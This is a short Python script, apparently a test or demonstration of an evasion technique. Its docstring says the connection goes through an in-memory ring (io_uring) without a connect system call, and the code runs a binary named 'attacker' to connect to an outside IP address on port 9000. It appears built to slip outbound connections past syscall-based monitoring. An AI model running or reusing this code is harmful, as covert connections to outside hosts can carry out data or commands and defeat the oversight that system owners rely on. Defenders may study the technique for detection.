"""The kernel is asked by way of a ring in memory, without a system call for the connection."""
import subprocess

for way in ("io-uring",):
    subprocess.run(["./attacker", "connect", way, "93.184.216.35:9000", way])
